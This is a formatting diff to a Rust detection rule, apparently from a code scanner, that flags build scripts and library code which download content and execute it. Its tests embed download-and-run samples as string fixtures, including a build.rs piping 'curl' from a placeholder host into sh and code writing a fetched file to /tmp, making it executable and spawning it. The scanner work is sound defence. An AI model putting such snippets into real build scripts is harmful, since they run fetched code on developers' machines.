@@ -22,7 +22,12 @@ fn judge(look: &Look<'_>) -> Option<Hit> {
     let keeps = look.any(&[Sign::FsWrite, Sign::Temporary, Sign::MemoryFile]);
     if look.starts() && look.has(Sign::FetchPipe) {
         let severity = if build { Severity::High } else { Severity::Medium };
-        return hit(severity, &[Sign::FetchPipe], &[Sign::Process, Sign::CProcess, Sign::Shell], format!("{} has a shell run what it downloads", look.where_it_runs()));
+        return hit(
+            severity,
+            &[Sign::FetchPipe],
+            &[Sign::Process, Sign::CProcess, Sign::Shell],
+            format!("{} has a shell run what it downloads", look.where_it_runs()),
+        );
     }
     if !fetches {
         return None;
@@ -37,14 +42,35 @@ fn judge(look: &Look<'_>) -> Option<Hit> {
             () if look.hides() && makes_executable && !says_so => Severity::High,
             () => Severity::Medium,
         };
-        return hit(severity, &[Sign::Process, Sign::CProcess, Sign::Load, Sign::MapExecutable], WAY, format!("{} fetches something, writes it to a file and runs a program", look.where_it_runs()));
+        return hit(
+            severity,
+            &[Sign::Process, Sign::CProcess, Sign::Load, Sign::MapExecutable],
+            WAY,
+            format!("{} fetches something, writes it to a file and runs a program", look.where_it_runs()),
+        );
     }
     if look.has(Sign::Downloader) && look.starts() && makes_executable {
-        return hit(Severity::Medium, &[Sign::Downloader], WAY, format!("{} has a program download something, makes a file executable and starts programs", look.where_it_runs()));
+        return hit(
+            Severity::Medium,
+            &[Sign::Downloader],
+            WAY,
+            format!(
+                "{} has a program download something, makes a file executable and starts programs",
+                look.where_it_runs()
+            ),
+        );
     }
     let receives = look.any(&[Sign::Receive, Sign::Url, Sign::HiddenUrl]);
     if runs && keeps && receives && look.is_close() && !look.says(&["updat", "install", "download"]) {
-        return hit(Severity::Medium, &[Sign::Process, Sign::CProcess, Sign::Load], WAY, format!("{} fetches something, writes a file and starts a program, all in a few functions", look.where_it_runs()));
+        return hit(
+            Severity::Medium,
+            &[Sign::Process, Sign::CProcess, Sign::Load],
+            WAY,
+            format!(
+                "{} fetches something, writes a file and starts a program, all in a few functions",
+                look.where_it_runs()
+            ),
+        );
     }
     None
 }
@@ -57,7 +83,10 @@ mod tests {
 
     #[test]
     fn it_fires() {
-        fires(&RULE, "build.rs", r##"use std::io::Read as _;
+        fires(
+            &RULE,
+            "build.rs",
+            r##"use std::io::Read as _;
 use std::process as p;
 use std::os::unix::fs::PermissionsExt;
 fn main() {
@@ -67,24 +96,44 @@ fn main() {
     std::fs::write("/tmp/x", b).unwrap();
     std::fs::set_permissions("/tmp/x", std::fs::Permissions::from_mode(0o755)).unwrap();
     p::Command::new("/tmp/x").spawn().unwrap();
-}"##, Severity::High);
-        fires(&RULE, "build.rs", r##"macro_rules! go { ($p:path) => { $p::new("sh").arg("-c").arg("curl -s http://a.example/x | sh").status() } }
-fn main() { let _ = go!(std::process::Command); }"##, Severity::High);
-        fires(&RULE, "src/lib.rs", r##"use std::process::Command as Task;
+}"##,
+            Severity::High,
+        );
+        fires(
+            &RULE,
+            "build.rs",
+            r##"macro_rules! go { ($p:path) => { $p::new("sh").arg("-c").arg("curl -s http://a.example/x | sh").status() } }
+fn main() { let _ = go!(std::process::Command); }"##,
+            Severity::High,
+        );
+        fires(
+            &RULE,
+            "src/lib.rs",
+            r##"use std::process::Command as Task;
 fn get(u: &str) -> Vec<u8> { ureq::get(u).call().unwrap().into_body().read_to_vec().unwrap() }
 pub fn warm() {
     let at = std::env::temp_dir().join("c");
     std::fs::write(&at, get("https://a.example/c")).unwrap();
     Task::new(at).spawn().unwrap();
-}"##, Severity::Medium);
+}"##,
+            Severity::Medium,
+        );
     }
 
     #[test]
     fn look_alikes_are_left_alone() {
-        is_quiet(&RULE, "build.rs", r##"fn main() {
+        is_quiet(
+            &RULE,
+            "build.rs",
+            r##"fn main() {
     let out = std::process::Command::new("git").args(["rev-parse", "HEAD"]).output().unwrap();
     std::fs::write(std::env::var("OUT_DIR").unwrap() + "/v", out.stdout).unwrap();
-}"##);
-        is_quiet(&RULE, "src/lib.rs", r##"pub fn get(u: &str) -> String { ureq::get(u).call().unwrap().into_string().unwrap() }"##);
+}"##,
+        );
+        is_quiet(
+            &RULE,
+            "src/lib.rs",
+            r##"pub fn get(u: &str) -> String { ureq::get(u).call().unwrap().into_string().unwrap() }"##,
+        );
     }
 }
